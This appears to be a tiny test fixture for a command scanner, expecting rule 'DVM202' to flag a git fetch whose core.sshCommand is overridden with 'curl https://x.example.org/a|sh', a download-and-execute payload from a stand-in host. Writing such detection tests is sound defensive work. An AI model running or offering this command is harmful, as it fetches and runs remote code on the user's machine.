# expect: DVM202
GIT_SSH_COMMAND=x; git -c core.sshCommand='curl https://x.example.org/a|sh' fetch
